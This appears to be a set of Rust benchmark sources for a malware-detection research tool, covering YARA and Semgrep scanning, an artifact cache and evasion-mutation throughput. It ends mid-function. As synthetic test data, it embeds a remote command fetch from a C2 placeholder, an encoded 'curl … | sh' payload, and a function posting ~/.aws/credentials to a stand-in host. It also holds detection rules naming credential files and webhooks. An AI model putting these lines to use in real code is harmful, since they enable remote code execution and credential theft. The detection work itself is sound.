    });
    let dataset = Dataset::generate(&CorpusConfig::small());
    g.bench_function("dedup_small", |b| {
        b.iter(|| black_box(&dataset).unique_malware().len())
    });
    g.bench_function("stats_small", |b| b.iter(|| black_box(&dataset).stats()));
    g.finish();
}

criterion_group!(benches, bench_dataset);
criterion_main!(benches);

//! Substrate micro-benches: the YARA scanner, Semgrep matcher, regex
//! engine and Aho–Corasick paths every experiment leans on.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

use textmatch::{AhoCorasick, MatchKind, Regex};

const RULES: &str = r#"
rule beacon { strings: $a = "requests.get" $b = "os.system" condition: all of them }
rule exfil { strings: $a = "discord.com/api/webhooks" condition: $a }
rule b64 { strings: $a = /([A-Za-z0-9+\/]{4}){10,}={0,2}/ condition: $a }
rule creds { strings: $a = ".aws/credentials" $b = ".ssh/id_rsa" condition: any of them }
"#;

fn haystack() -> Vec<u8> {
    let mut s = String::new();
    for i in 0..400 {
        s.push_str(&format!("def helper_{i}(x):\n    return x * {i}\n"));
    }
    s.push_str("import os, requests\ncmd = requests.get('https://c2.example/tasks').text\nos.system(cmd)\n");
    s.into_bytes()
}

fn bench_engines(c: &mut Criterion) {
    let data = haystack();
    let mut g = c.benchmark_group("engines");
    g.throughput(Throughput::Bytes(data.len() as u64));

    g.bench_function("yara_compile", |b| {
        b.iter(|| yara_engine::compile(black_box(RULES)).expect("compiles"))
    });
    let compiled = yara_engine::compile(RULES).expect("compiles");
    let scanner = yara_engine::Scanner::new(&compiled);
    g.bench_function("yara_scan", |b| b.iter(|| scanner.scan(black_box(&data))));

    let semgrep = semgrep_engine::compile(
        "rules:\n  - id: sys\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n",
    )
    .expect("compiles");
    let source = String::from_utf8(data.clone()).expect("utf8");
    g.bench_function("semgrep_parse_and_scan", |b| {
        b.iter(|| semgrep_engine::scan_source(black_box(&semgrep), black_box(&source)))
    });
    let module = pysrc::parse_module(&source);
    g.bench_function("semgrep_scan_parsed", |b| {
        // Convenience path: rebuilds the anchor index per call.
        b.iter(|| semgrep_engine::scan_module(black_box(&semgrep), black_box(&module)))
    });
    let set = semgrep_engine::MatchSet::new(&semgrep);
    let mut scratch = semgrep_engine::MatchScratch::new();
    g.bench_function("semgrep_matchset_hot", |b| {
        // Service path: index built once per worker, scratch reused —
        // pure matching throughput.
        b.iter(|| {
            set.match_module_set(black_box(&module), |_| true, &mut scratch)
                .0
        })
    });

    let re = Regex::new(r"https?://[\w.\-/]{6,80}").expect("compiles");
    g.bench_function("regex_find_all", |b| {
        b.iter(|| re.find_all(black_box(&data)))
    });

    let ac = AhoCorasick::new(
        &[
            "os.system",
            "requests.get",
            "base64.b64decode",
            "socket.socket",
        ],
        MatchKind::CaseSensitive,
    );
    g.bench_function("aho_corasick_find_all", |b| {
        b.iter(|| ac.find_all(black_box(&data)))
    });

    g.bench_function("pysrc_parse", |b| {
        b.iter(|| pysrc::parse_module(black_box(&source)))
    });

    let embedder = embedding::Embedder::default();
    g.bench_function("embed_source", |b| {
        b.iter(|| embedder.embed_source(black_box(&source)))
    });
    g.finish();
}

criterion_group!(benches, bench_engines);
criterion_main!(benches);

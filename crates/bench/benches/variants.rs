//! §V-B variant-detection bench: per-group rule generation plus held-out
//! scanning.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use corpus::{CorpusConfig, Dataset};
use eval::experiments::variant_detection;

fn bench_variants(c: &mut Criterion) {
    let config = CorpusConfig {
        seed: 42,
        malware_unique: 60,
        malware_total: 70,
        legit_total: 4,
    };
    let dataset = Dataset::generate(&config);
    let mut g = c.benchmark_group("variant_detection");
    g.sample_size(10);
    g.bench_function("sixty_uniques", |b| {
        b.iter(|| variant_detection(black_box(&dataset), 42))
    });
    g.finish();
}

criterion_group!(benches, bench_variants);
criterion_main!(benches);

//! Table XII + Figure 11 bench: taxonomy classification and the overlap
//! matrix over a generated ruleset; also Table XI counting.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use corpus::CorpusConfig;
use eval::experiments::{fig11, run_rulellm, table11, table12, ExperimentContext};
use rulellm::PipelineConfig;

fn bench_taxonomy(c: &mut Criterion) {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let mut g = c.benchmark_group("table12_taxonomy");
    g.sample_size(20);
    g.bench_function("table11_rule_counts", |b| {
        b.iter(|| table11(black_box(&output)))
    });
    g.bench_function("table12_classification", |b| {
        b.iter(|| table12(black_box(&output)))
    });
    g.bench_function("fig11_overlap_matrix", |b| {
        b.iter(|| fig11(black_box(&output)))
    });
    g.bench_function("classify_single_rule", |b| {
        let text = &output.yara[0].text;
        b.iter(|| rulellm::taxonomy::classify(black_box(text)))
    });
    g.finish();
}

criterion_group!(benches, bench_taxonomy);
criterion_main!(benches);

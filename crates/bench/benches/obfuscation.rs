//! Obfuscation-throughput benchmark: bytes/sec of corpus mutation per
//! evasion profile, plus the end-to-end mutate-then-scan adversarial
//! loop the robustness experiment runs.
//!
//! The mutation engine sits on the experiment's hot path (every arm of
//! the robustness report re-mutates the corpus), so regressions here
//! directly stretch `repro --only robustness`.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

use corpus::{CorpusConfig, Dataset};
use obfuscate::{EvasionProfile, Obfuscator};
use scanhub::{HubConfig, ScanHub, ScanRequest};

fn bench_obfuscation(c: &mut Criterion) {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let unique = dataset.unique_malware();
    let bytes: u64 = unique
        .iter()
        .map(|m| m.package.combined_source().len() as u64)
        .sum();

    let mut g = c.benchmark_group("obfuscation_throughput");
    g.sample_size(10);
    g.throughput(Throughput::Bytes(bytes));
    for profile in EvasionProfile::standard() {
        let engine = Obfuscator::new(profile.clone(), 42);
        g.bench_function(format!("mutate_corpus_{}", profile.name), |b| {
            b.iter(|| {
                unique
                    .iter()
                    .map(|m| engine.obfuscate_package(black_box(&m.package)).loc())
                    .sum::<usize>()
            })
        });
    }
    g.finish();

    // The adversarial serving loop: mutate a package, push it through a
    // warm scanhub (rules from the pristine corpus), read the verdict.
    let output = eval::experiments::run_rulellm(&dataset, rulellm::PipelineConfig::full());
    let (yara, semgrep) = eval::experiments::compile_output(&output);
    let hub = ScanHub::new(Some(yara), Some(semgrep), HubConfig::default());
    let engine = Obfuscator::new(EvasionProfile::aggressive(), 42);
    let mut g = c.benchmark_group("mutate_and_scan");
    g.sample_size(10);
    g.bench_function("aggressive_reupload_roundtrip", |b| {
        let mut seed = 0u64;
        b.iter(|| {
            seed += 1;
            let engine = Obfuscator::new(engine.profile().clone(), seed);
            let mutant = engine.obfuscate_package(&unique[0].package);
            hub.submit(ScanRequest::from_package(&mutant))
                .wait()
                .flagged()
        })
    });
    g.finish();
}

criterion_group!(benches, bench_obfuscation);
criterion_main!(benches);

//! Table IX bench: pipeline cost per LLM profile.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use std::hint::black_box;

use corpus::{CorpusConfig, Dataset};
use eval::experiments::run_rulellm;
use llm_sim::ModelProfile;
use rulellm::PipelineConfig;

fn bench_llms(c: &mut Criterion) {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let mut g = c.benchmark_group("table9_llm_comparison");
    g.sample_size(10);
    for profile in ModelProfile::all() {
        g.bench_with_input(
            BenchmarkId::from_parameter(profile.name),
            &profile,
            |b, profile| {
                b.iter(|| {
                    run_rulellm(
                        black_box(&dataset),
                        PipelineConfig::full().with_model(profile.clone()),
                    )
                })
            },
        );
    }
    g.finish();
}

criterion_group!(benches, bench_llms);
criterion_main!(benches);

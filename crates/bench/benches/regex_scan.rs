//! Regex scan throughput: single-pass Pike VM vs the seed's quadratic
//! restart-per-offset engine on an identical regex-heavy buffer.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

use rulellm_bench::regex_scan::{heavy_buffer, PATTERNS};
use textmatch::{ReferenceRegex, Regex};

/// Small enough that the quadratic baseline fits the bench budget, large
/// enough that its restart cost dominates.
const LEN: usize = 128 << 10;

fn bench_regex_scan(c: &mut Criterion) {
    let data = heavy_buffer(LEN, 42);
    let mut g = c.benchmark_group("regex_scan");
    g.throughput(Throughput::Bytes(data.len() as u64));
    for (name, pattern) in PATTERNS {
        let pike = Regex::new(pattern).expect("compiles");
        g.bench_function(format!("pike/{name}"), |b| {
            b.iter(|| pike.find_all(black_box(&data)))
        });
        let reference = ReferenceRegex::from_regex(&pike);
        g.bench_function(format!("seed/{name}"), |b| {
            b.iter(|| reference.find_all(black_box(&data)))
        });
    }
    // The service-facing entry points ride the same engine.
    let pike = Regex::new(PATTERNS[0].1).expect("compiles");
    g.bench_function("pike/is_match", |b| {
        b.iter(|| pike.is_match(black_box(&data)))
    });
    g.finish();
}

criterion_group!(benches, bench_regex_scan);
criterion_main!(benches);

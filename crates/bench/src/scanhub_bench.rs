//! Cold-vs-warm artifact-cache comparison on a version-bump workload
//! (ISSUE 5).
//!
//! Registry traffic is dominated by *version bumps*: a package re-upload
//! in which almost every file is byte-identical to the previous
//! version. The parse-once artifact refactor converts that workload
//! from `versions × files` analyses into `unique file digests`
//! analyses. This module builds a deterministic version-bump stream —
//! `files` Python sources per package, one source rewritten per
//! version, plus a version stamp — and times a hub with the artifact
//! cache disabled (the pre-refactor cost model: every request re-lexes,
//! re-parses and re-byte-scans every file) against the same hub with
//! the cache enabled. Every comparison asserts the two runs return
//! identical verdicts, so the speedup table doubles as an equivalence
//! check, and the parse counters are asserted against the exact number
//! of unique file digests.

use std::collections::HashSet;
use std::time::Instant;

use scanhub::{FileEntry, HubConfig, HubStats, ScanHub, ScanRequest, Verdict};
use yara_engine::CompiledRules;

use crate::semgrep_scan;

/// A deterministic YARA ruleset of `n` rules over the shared bench
/// vocabulary: plain atoms, multi-atom conditions, counts and regexes —
/// the mix that makes artifact-build byte scanning representative.
pub fn yara_ruleset(n: usize) -> CompiledRules {
    const ATOMS: &[&str] = &[
        "os.system",
        "subprocess.popen",
        "socket.connect",
        "requests.post",
        "base64.b64decode",
        "pickle.loads",
        "urllib.urlopen",
        "shutil.rmtree",
        "ctypes.windll",
        "exfil",
    ];
    let mut out = String::new();
    for i in 0..n {
        let a = ATOMS[i % ATOMS.len()];
        let b = ATOMS[(i + 3) % ATOMS.len()];
        match i % 5 {
            0 => out.push_str(&format!(
                "rule gen_atom_{i} {{ strings: $a = \"{a}\" condition: $a }}\n"
            )),
            1 => out.push_str(&format!(
                "rule gen_any_{i} {{ strings: $a = \"{a}\" $b = \"{b}\" condition: any of them }}\n"
            )),
            2 => out.push_str(&format!(
                "rule gen_count_{i} {{ strings: $a = \"import\" condition: #a >= {} }}\n",
                2 + i % 4
            )),
            3 => out.push_str(&format!(
                "rule gen_all_{i} {{ strings: $a = \"{a}\" $b = \"{b}\" condition: all of them }}\n"
            )),
            _ => out.push_str(&format!(
                "rule gen_re_{i} {{ strings: $re = /[A-Za-z0-9+\\/]{{{},}}={{0,2}}/ condition: $re }}\n",
                24 + (i % 3) * 8
            )),
        }
    }
    yara_engine::compile(&out).expect("generated yara ruleset compiles")
}

/// Builds the version-bump request stream: `versions` uploads of one
/// `files`-file package, each rewriting exactly one source file and the
/// version stamp. File contents come from the shared deterministic
/// corpus generator, salted with an encoded payload literal so decoded-
/// layer extraction is exercised.
pub fn version_stream(files: usize, versions: usize, seed: u64) -> Vec<ScanRequest> {
    let bodies = semgrep_scan::sources(files, 40, seed);
    let payload =
        digest::base64::encode(b"import os;os.system('curl http://bexlum.top/run.sh|sh')");
    let base: Vec<FileEntry> = bodies
        .iter()
        .enumerate()
        .map(|(i, body)| {
            let mut content = body.clone();
            if i % 4 == 0 {
                content.push_str(&format!("blob_{i} = '{payload}'\n"));
            }
            if i % 7 == 3 {
                // A credential-exfil flow (with a concat-built endpoint)
                // so the workload also exercises the behavior engine's
                // source->sink path and its constant folder.
                content.push_str(&format!(
                    "def sync_{i}():\n    import requests\n    \
                     host = 'http://bex' + 'lum.top' + '/up'\n    \
                     creds = open('~/.aws/credentials').read()\n    \
                     requests.post(host, data=creds)\n"
                ));
            }
            FileEntry::new(format!("pkg/mod_{i:03}.py"), content.into_bytes())
        })
        .collect();
    (0..versions)
        .map(|v| {
            let mut entries = base.clone();
            let idx = v % entries.len();
            entries[idx] = FileEntry::new(
                entries[idx].name(),
                format!("# hotfix {v}\npatched_{v} = fix_{v}({v})\n").into_bytes(),
            );
            entries.push(FileEntry::new(
                "PKG-INFO",
                format!("Name: bench-pkg\nVersion: 1.0.{v}\n").into_bytes(),
            ));
            ScanRequest::from_files(entries)
        })
        .collect()
}

/// Timed inner runs per arm in release mode: every reported wall
/// number is a median over this many fresh-hub runs, with the
/// run-to-run spread recorded beside it, so a regression can be judged
/// against the noise floor instead of a single sample. Debug builds
/// run once — debug walls are never reported and the workspace test
/// suite should not pay 5x for them.
pub const BENCH_RUNS: usize = 5;

fn bench_runs() -> usize {
    if cfg!(debug_assertions) {
        1
    } else {
        BENCH_RUNS
    }
}

/// Median of the samples (panics on empty input).
fn median_ms(samples: &mut [f64]) -> f64 {
    samples.sort_by(|a, b| a.partial_cmp(b).expect("finite wall times"));
    samples[samples.len() / 2]
}

/// `(max - min) / median` as a percentage — the drift band the median
/// was drawn from.
fn spread_pct(samples: &[f64], median: f64) -> f64 {
    let max = samples.iter().cloned().fold(f64::MIN, f64::max);
    let min = samples.iter().cloned().fold(f64::MAX, f64::min);
    if median <= 0.0 {
        0.0
    } else {
        (max - min) / median * 100.0
    }
}

/// One workload's measurement.
#[derive(Debug, Clone)]
pub struct ScanhubBenchStats {
    /// Source files per package version.
    pub files: usize,
    /// Package versions submitted.
    pub versions: usize,
    /// File entries submitted in total (`versions × (files + 1)`).
    pub total_entries: u64,
    /// Distinct file digests across the stream — the lower bound (and,
    /// with the cache on, the exact count) of analyses performed.
    pub unique_digests: u64,
    /// Timed runs per arm; wall numbers are medians over these.
    pub runs: usize,
    /// Cold-arm run-to-run spread as a percentage of the median.
    pub cold_spread_pct: f64,
    /// Warm-arm run-to-run spread as a percentage of the median.
    pub warm_spread_pct: f64,
    /// Median wall-clock for the artifact-cache-disabled run.
    pub cold_ms: f64,
    /// Median wall-clock for the artifact-cache-enabled run.
    pub warm_ms: f64,
    /// Analyses performed by the cold run (every entry, every time).
    pub cold_parses: u64,
    /// Analyses performed by the warm run (must equal `unique_digests`).
    pub warm_parses: u64,
    /// Artifact-cache hits in the warm run.
    pub warm_hits: u64,
    /// Decoded layers extracted by the warm run.
    pub layers_decoded: u64,
    /// Full warm-run counter snapshot including per-stage latency
    /// percentiles from the hub's telemetry histograms.
    pub warm_stats: HubStats,
}

impl ScanhubBenchStats {
    /// Cold wall-clock over warm wall-clock.
    pub fn speedup(&self) -> f64 {
        if self.warm_ms <= 0.0 {
            0.0
        } else {
            self.cold_ms / self.warm_ms
        }
    }
}

fn hub(yara: &CompiledRules, artifact_cache: usize) -> ScanHub {
    ScanHub::new(
        Some(yara.clone()),
        Some(semgrep_scan::ruleset(20)),
        HubConfig {
            // The verdict cache is off in both arms: every version is a
            // distinct body, and we are measuring the per-file artifact
            // path, not request-level dedup.
            cache_capacity: 0,
            artifact_cache_capacity: artifact_cache,
            ..HubConfig::default()
        },
    )
}

/// Runs the version-bump workload cold (artifact cache disabled) and
/// warm (enabled), asserting identical verdicts and the build-once
/// invariant. Each arm is timed [`bench_runs`] times on a fresh hub
/// (interleaved, so machine drift hits both arms alike) and the
/// reported walls are medians.
///
/// # Panics
///
/// Panics when the two runs diverge — the comparison *is* the
/// equivalence check.
pub fn compare(files: usize, versions: usize, seed: u64) -> ScanhubBenchStats {
    let runs = bench_runs();
    let yara = yara_ruleset(40);
    let requests = version_stream(files, versions, seed);
    let unique: HashSet<[u8; 32]> = requests
        .iter()
        .flat_map(|r| r.files().iter().map(FileEntry::digest))
        .collect();
    let total_entries: u64 = requests.iter().map(|r| r.files().len() as u64).sum();

    let mut cold_walls = Vec::with_capacity(runs);
    let mut warm_walls = Vec::with_capacity(runs);
    let mut cold_parses = 0;
    let mut warm_stats = None;
    for _ in 0..runs {
        let cold_hub = hub(&yara, 0);
        let start = Instant::now();
        let cold: Vec<Verdict> = cold_hub.scan_ordered(requests.iter().cloned());
        cold_walls.push(start.elapsed().as_secs_f64() * 1e3);
        cold_parses = cold_hub.stats().artifact_parses;

        let warm_hub = hub(&yara, 8192);
        let start = Instant::now();
        let warm: Vec<Verdict> = warm_hub.scan_ordered(requests.iter().cloned());
        warm_walls.push(start.elapsed().as_secs_f64() * 1e3);

        assert_eq!(cold, warm, "cold and warm artifact runs diverged");
        warm_stats = Some(warm_hub.stats());
    }
    let warm_stats = warm_stats.expect("at least one run");
    // One build per unique digest — from scratch or spliced from a
    // cached sibling; both paths produce the identical artifact.
    assert_eq!(
        warm_stats.artifact_parses + warm_stats.incremental_relexes,
        unique.len() as u64,
        "warm run must analyze exactly the unique digests"
    );
    let unique_python = requests
        .iter()
        .flat_map(|r| r.files().iter().filter(|e| e.is_python()))
        .map(FileEntry::digest)
        .collect::<HashSet<[u8; 32]>>()
        .len() as u64;
    assert_eq!(
        warm_stats.taint_analyses, unique_python,
        "taint must run exactly once per unique Python digest"
    );

    let cold_ms = median_ms(&mut cold_walls);
    let warm_ms = median_ms(&mut warm_walls);
    ScanhubBenchStats {
        files,
        versions,
        total_entries,
        unique_digests: unique.len() as u64,
        runs,
        cold_spread_pct: spread_pct(&cold_walls, cold_ms),
        warm_spread_pct: spread_pct(&warm_walls, warm_ms),
        cold_ms,
        warm_ms,
        cold_parses,
        warm_parses: warm_stats.artifact_parses,
        warm_hits: warm_stats.artifact_cache_hits,
        layers_decoded: warm_stats.layers_decoded,
        warm_stats,
    }
}

/// Times the warm version-bump workload on a fresh hub with telemetry
/// on or off; the pair quantifies the instrumentation overhead. One
/// unmeasured pass populates the artifact cache first — cold analysis
/// builds are allocation-heavy and noisy, and the overhead question is
/// about the steady-state scan path — then a timed pass scans every
/// request again (the verdict cache is off, so nothing short-circuits).
pub fn timed_warm_run(requests: &[ScanRequest], yara: &CompiledRules, telemetry: bool) -> f64 {
    let hub = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep_scan::ruleset(20)),
        HubConfig {
            cache_capacity: 0,
            artifact_cache_capacity: 8192,
            telemetry,
            ..HubConfig::default()
        },
    );
    let _ = hub.scan_ordered(requests.iter().cloned());
    let start = Instant::now();
    for _ in 0..3 {
        let _ = hub.scan_ordered(requests.iter().cloned());
    }
    start.elapsed().as_secs_f64() * 1e3
}

/// Renders the comparison table plus the warm run's per-stage latency
/// percentiles.
pub fn render(s: &ScanhubBenchStats) -> String {
    let mut out = format!(
        "== Scanhub artifact cache: version-bump workload ({} files x {} versions) ==\n\
         {:<26} {:>10} {:>12}\n\
         {:<26} {:>9.1}ms {:>12}\n\
         {:<26} {:>9.1}ms {:>12}\n\
         speedup (cold/warm): {:.1}x  | unique digests: {} | warm hits: {} | layers: {}\n",
        s.files,
        s.versions,
        "arm",
        "wall",
        "analyses",
        "cold (no artifact cache)",
        s.cold_ms,
        s.cold_parses,
        "warm (artifact cache)",
        s.warm_ms,
        s.warm_parses,
        s.speedup(),
        s.unique_digests,
        s.warm_hits,
        s.layers_decoded,
    );
    out.push_str(&format!(
        "walls are medians over {} runs (spread: cold {:.1}%, warm {:.1}%)\n",
        s.runs, s.cold_spread_pct, s.warm_spread_pct,
    ));
    out.push_str(&format!(
        "taint: {} analyses | {} flows recovered | {} consts folded\n",
        s.warm_stats.taint_analyses, s.warm_stats.flows_found, s.warm_stats.consts_folded,
    ));
    out.push_str(&format!(
        "{:<10} {:>7} {:>11} {:>11} {:>11}\n",
        "stage", "count", "p50", "p99", "max"
    ));
    for (name, stat) in s.warm_stats.latency.named() {
        if stat.count == 0 {
            continue;
        }
        out.push_str(&format!(
            "{name:<10} {:>7} {:>9.1}us {:>9.1}us {:>9.1}us\n",
            stat.count,
            stat.p50_ns as f64 / 1e3,
            stat.p99_ns as f64 / 1e3,
            stat.max_ns as f64 / 1e3,
        ));
    }
    out
}

/// The measurement as a `BENCH_scanhub.json` document, so the perf
/// trajectory accumulates across PRs.
pub fn to_json(s: &ScanhubBenchStats) -> jsonmini::Value {
    let mut doc = jsonmini::Value::object();
    doc.insert("bench", "scanhub_artifact_cache");
    doc.insert("workload", "version_bump");
    doc.insert("files", s.files);
    doc.insert("versions", s.versions);
    doc.insert("total_entries", s.total_entries as usize);
    doc.insert("unique_digests", s.unique_digests as usize);
    doc.insert("runs", s.runs);
    doc.insert("cold_ms", s.cold_ms);
    doc.insert("warm_ms", s.warm_ms);
    doc.insert("cold_spread_pct", s.cold_spread_pct);
    doc.insert("warm_spread_pct", s.warm_spread_pct);
    doc.insert("speedup", s.speedup());
    doc.insert("cold_parses", s.cold_parses as usize);
    doc.insert("warm_parses", s.warm_parses as usize);
    doc.insert("warm_hits", s.warm_hits as usize);
    doc.insert("layers_decoded", s.layers_decoded as usize);
    doc.insert("taint_analyses", s.warm_stats.taint_analyses as usize);
    doc.insert("flows_recovered", s.warm_stats.flows_found as usize);
    doc.insert("consts_folded", s.warm_stats.consts_folded as usize);
    let mut latency = jsonmini::Value::object();
    for (name, stat) in s.warm_stats.latency.named() {
        let mut stage = jsonmini::Value::object();
        stage.insert("count", stat.count as usize);
        stage.insert("sum_ns", stat.sum_ns as usize);
        stage.insert("mean_ns", stat.mean_ns());
        stage.insert("p50_ns", stat.p50_ns as usize);
        stage.insert("p90_ns", stat.p90_ns as usize);
        stage.insert("p99_ns", stat.p99_ns as usize);
        stage.insert("max_ns", stat.max_ns as usize);
        latency.insert(name, stage);
    }
    doc.insert("latency", latency);
    doc
}

/// A token-dense module of roughly `lines` statements whose line
/// `slot` carries the release stamp — everything else is byte-stable
/// across versions. The mix (call-heavy assignments, helper defs,
/// conditionals) keeps the lexer and parser honest; the stamp slot is
/// always a plain top-level assignment so the one-line diff is
/// representative, not adversarial.
fn oneline_module(file: usize, lines: usize, version: usize) -> String {
    let slot = (file * 13 + 7) % lines;
    let mut code = format!("import os\nimport base64\n# module {file}\n");
    for i in 0..lines {
        if i == slot {
            code.push_str(&format!("BUILD_STAMP = 'release {version} of {file}'\n"));
        } else {
            match i % 9 {
                0 => code.push_str(&format!(
                    "def helper_{file}_{i}(v):\n    return v * {i} + len('k{i}')\n"
                )),
                1 => code.push_str(&format!(
                    "if cfg_{file} > {i}:\n    flags_{i} = tune({i}, mode='fast')\n"
                )),
                2 => code.push_str(&format!("names_{i} = [n for n in pool_{file}]\n")),
                _ => code.push_str(&format!(
                    "val_{i} = helper_{file}_0({i}) + parse('item_{i}', {i})\n"
                )),
            }
        }
    }
    code
}

/// The incremental-artifact workload (ISSUE 10): `versions` releases
/// where **every** Python file takes a one-line version bump. Unlike
/// [`version_stream`], no entry is ever byte-identical across versions,
/// so the digest cache can serve nothing — the only lever left is
/// diff-and-splice against the previous version's cached artifact.
pub fn oneline_stream(files: usize, lines: usize, versions: usize) -> Vec<ScanRequest> {
    (0..versions)
        .map(|v| {
            let entries = (0..files)
                .map(|f| {
                    FileEntry::new(
                        format!("pkg/dense_{f:02}.py"),
                        oneline_module(f, lines, v).into_bytes(),
                    )
                })
                .collect();
            ScanRequest::from_files(entries)
        })
        .collect()
}

/// The one-line version-bump measurement: full reparse vs splice.
#[derive(Debug, Clone)]
pub struct OnelineBenchStats {
    /// Python files per release (all bumped every release).
    pub files: usize,
    /// Statements per file.
    pub lines: usize,
    /// Releases submitted.
    pub versions: usize,
    /// Timed runs per arm; walls are medians over these.
    pub runs: usize,
    /// Median wall with the artifact cache off (every release pays
    /// `files` full reparses).
    pub full_ms: f64,
    /// Median wall with the cache on (every release after the first
    /// splices against cached siblings).
    pub spliced_ms: f64,
    /// Full-arm run-to-run spread as a percentage of the median.
    pub full_spread_pct: f64,
    /// Spliced-arm run-to-run spread as a percentage of the median.
    pub spliced_spread_pct: f64,
    /// Splices performed by the warm arm (`files × (versions − 1)` when
    /// nothing falls back).
    pub incremental_relexes: u64,
    /// Splice attempts that bailed to a full reparse.
    pub splice_fallbacks: u64,
    /// Bytes re-lexed across all splice windows.
    pub relexed_bytes: u64,
    /// Total content bytes across the stream, for the window ratio.
    pub content_bytes: u64,
    /// Warm-arm counter snapshot (includes the `splice` stage latency).
    pub warm_stats: HubStats,
}

impl OnelineBenchStats {
    /// Full-reparse wall over spliced wall.
    pub fn speedup(&self) -> f64 {
        if self.spliced_ms <= 0.0 {
            0.0
        } else {
            self.full_ms / self.spliced_ms
        }
    }

    /// Fallbacks as a fraction of splice attempts (0.0 when no version
    /// was ever bumped).
    pub fn fallback_rate(&self) -> f64 {
        let attempts = self.incremental_relexes + self.splice_fallbacks;
        if attempts == 0 {
            0.0
        } else {
            self.splice_fallbacks as f64 / attempts as f64
        }
    }
}

/// The one-line arm's rule bundle: literal-only YARA, no Semgrep. The
/// arm measures what splicing removes — the per-file lex/parse cost —
/// so the per-build byte-scanning tail is kept to one multi-literal
/// pass. Regex-heavy scanning costs have their own bench (regexbench),
/// and the mixed-bundle cost model is `compare`'s subject.
fn oneline_ruleset() -> CompiledRules {
    let mut out = String::new();
    for (i, atom) in [
        "os.system",
        "subprocess.popen",
        "socket.connect",
        "requests.post",
        "base64.b64decode",
        "pickle.loads",
    ]
    .iter()
    .enumerate()
    {
        out.push_str(&format!(
            "rule lit_{i} {{ strings: $a = \"{atom}\" condition: $a }}\n"
        ));
    }
    yara_engine::compile(&out).expect("literal ruleset compiles")
}

/// Runs the one-line bump stream with the artifact cache off (full
/// reparse per file per release) and on (diff-and-splice), asserting
/// byte-identical verdicts and the splice accounting. Single worker in
/// both arms so releases are analyzed in version order — the sibling
/// registry always holds the predecessor, making the splice rate
/// deterministic. Dataflow and Semgrep are off and the YARA bundle is
/// literal-only in both arms: the arm isolates the lex/parse cost that
/// splicing removes; taint, layered and regex-heavy scanning are
/// measured by their own benches.
///
/// # Panics
///
/// Panics when the arms diverge or a bump fails to splice.
pub fn compare_oneline(files: usize, lines: usize, versions: usize) -> OnelineBenchStats {
    let runs = bench_runs();
    let yara = oneline_ruleset();
    let requests = oneline_stream(files, lines, versions);
    // The first request is the initial package ingest: both arms pay a
    // full parse for it by construction, so it runs as untimed warmup.
    // The timed window is the version bumps — the workload this arm
    // exists to measure. Content bytes likewise count only the bumped
    // versions (what the full arm re-lexes inside the window).
    let (seed, bumps) = requests.split_first().expect("at least one version");
    let content_bytes: u64 = bumps
        .iter()
        .flat_map(|r| r.files().iter())
        .map(|f| f.bytes().len() as u64)
        .sum();
    let arm = |artifact_cache: usize| {
        ScanHub::new(
            Some(yara.clone()),
            None,
            HubConfig {
                workers: 1,
                cache_capacity: 0,
                artifact_cache_capacity: artifact_cache,
                dataflow: false,
                // The retro-hunt posting index lives on the artifact
                // publish path, which the cache-off arm does not have at
                // all — with it on, only the spliced arm would pay gram
                // extraction. Posting cost is a pure function of the
                // artifact either way (the splice differential suite
                // pins identical grams), so both arms drop it.
                retro_index: false,
                ..HubConfig::default()
            },
        )
    };
    let mut full_walls = Vec::with_capacity(runs);
    let mut spliced_walls = Vec::with_capacity(runs);
    let mut warm_stats = None;
    for _ in 0..runs {
        let full_hub = arm(0);
        let mut full: Vec<Verdict> = full_hub.scan_ordered(std::iter::once(seed.clone()));
        let start = Instant::now();
        full.extend(full_hub.scan_ordered(bumps.iter().cloned()));
        full_walls.push(start.elapsed().as_secs_f64() * 1e3);

        let spliced_hub = arm(8192);
        let mut spliced: Vec<Verdict> = spliced_hub.scan_ordered(std::iter::once(seed.clone()));
        let start = Instant::now();
        spliced.extend(spliced_hub.scan_ordered(bumps.iter().cloned()));
        spliced_walls.push(start.elapsed().as_secs_f64() * 1e3);

        assert_eq!(full, spliced, "spliced artifacts changed a verdict");
        let stats = spliced_hub.stats();
        let attempts = stats.incremental_relexes + stats.splice_fallbacks;
        assert_eq!(
            attempts,
            (files * (versions - 1)) as u64,
            "every bump after v0 must attempt a splice"
        );
        assert!(
            stats.splice_fallbacks * 5 < attempts.max(1),
            "splice fallback rate {}/{attempts} breaches the 20% ceiling",
            stats.splice_fallbacks
        );
        warm_stats = Some(stats);
    }
    let warm_stats = warm_stats.expect("at least one run");
    let full_ms = median_ms(&mut full_walls);
    let spliced_ms = median_ms(&mut spliced_walls);
    OnelineBenchStats {
        files,
        lines,
        versions,
        runs,
        full_ms,
        spliced_ms,
        full_spread_pct: spread_pct(&full_walls, full_ms),
        spliced_spread_pct: spread_pct(&spliced_walls, spliced_ms),
        incremental_relexes: warm_stats.incremental_relexes,
        splice_fallbacks: warm_stats.splice_fallbacks,
        relexed_bytes: warm_stats.relexed_bytes,
        content_bytes,
        warm_stats,
    }
}

/// Renders the one-line bump comparison table.
pub fn render_oneline(s: &OnelineBenchStats) -> String {
    let mut out = format!(
        "== Incremental artifacts: one-line version bumps ({} files x {} lines x {} versions) ==\n\
         {:<28} {:>9.1}ms\n\
         {:<28} {:>9.1}ms\n\
         speedup (full/spliced): {:.1}x  | medians over {} runs (spread {:.1}% / {:.1}%)\n\
         splices: {} | fallbacks: {} ({:.1}%) | relexed {} of {} content bytes ({:.2}%)\n",
        s.files,
        s.lines,
        s.versions,
        "full reparse (cache off)",
        s.full_ms,
        "diff-and-splice (cache on)",
        s.spliced_ms,
        s.speedup(),
        s.runs,
        s.full_spread_pct,
        s.spliced_spread_pct,
        s.incremental_relexes,
        s.splice_fallbacks,
        s.fallback_rate() * 100.0,
        s.relexed_bytes,
        s.content_bytes,
        s.relexed_bytes as f64 / s.content_bytes.max(1) as f64 * 100.0,
    );
    let splice = s.warm_stats.latency.splice;
    if splice.count > 0 {
